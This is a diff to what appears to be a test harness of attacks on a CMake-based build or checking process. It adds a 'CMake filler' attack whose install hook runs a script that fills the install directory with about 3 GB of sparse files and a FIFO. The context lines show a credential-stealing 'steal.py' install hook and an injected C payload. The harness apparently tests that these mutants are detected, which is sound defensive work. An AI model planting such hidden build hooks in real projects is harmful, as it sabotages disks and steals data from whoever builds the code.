@@ -16,6 +16,12 @@ STEAL = """execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/steal.py 
 message(WARNING "${loot}")
 install(CODE "execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/steal.py)")
 """
+FILL = 'install(CODE "execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/fill.py ${CMAKE_INSTALL_PREFIX})")\n'
+FILLER = """import os, sys
+for number in range(50):
+    open(f"{sys.argv[1]}/{number}", "w").truncate(60 << 20)
+os.mkfifo(f"{sys.argv[1]}/pipe")
+"""
 # Runs in each process that loads the library of the messages.
 PAYLOAD = """
 #include <sys/wait.h>
@@ -40,6 +46,12 @@ def attacks() -> tuple[Attack, ...]:
             CHAPTER.write("default_qos", swaps={CMAKE: (END, STEAL + END)}, files={f"{HOME}/steal.py": steal}),
             CHAPTER.mutant("default_qos").fails,
             exactly=True,
+        ),
+        Attack(
+            "CMake filler",
+            "CMakeLists.txt installs sparse files of 3 GB, and a FIFO",
+            CHAPTER.write("misspelt_topic", swaps={CMAKE: (END, FILL + END)}, files={f"{HOME}/fill.py": FILLER}),
+            CHAPTER.mutant("misspelt_topic").fails,
         ),
         Attack(
             "definition thief",
